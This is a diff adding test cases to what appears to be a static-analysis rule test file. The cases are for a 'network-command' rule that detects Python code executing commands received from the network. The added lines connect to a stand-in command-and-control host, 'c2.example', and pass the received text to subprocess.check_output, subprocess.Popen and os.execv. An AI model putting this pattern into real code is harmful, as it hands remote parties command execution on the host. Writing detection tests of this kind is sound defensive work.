@@ -146,3 +146,23 @@ subprocess.run(["bash", "build.sh"], check=True)
 # ok: shell-interactive
 # ruleid: subprocess-call, process-partial-path, process-partial-path-list
 subprocess.run(["git", "status"], check=True)
+
+# network-command: what the network sends, run as a program
+import requests
+import socket
+import urllib.request
+
+c2 = socket.create_connection(("c2.example", 443))
+line = c2.recv(512).decode().strip()
+# ruleid: network-command, subprocess-call
+subprocess.check_output(line.split(), stderr=subprocess.STDOUT)
+next_cmd = requests.get("http://c2.example/next").text
+# ruleid: network-command, subprocess-call
+subprocess.Popen(next_cmd.split())
+# ruleid: network-command, os-exec
+os.execv(urllib.request.urlopen("http://c2.example/bin").read().decode(), ["x"])
+# the network's data as a program's input is data, not a command
+chunk = c2.recv(4096)
+# ok: network-command
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["wc", "-c"], input=chunk, check=True)
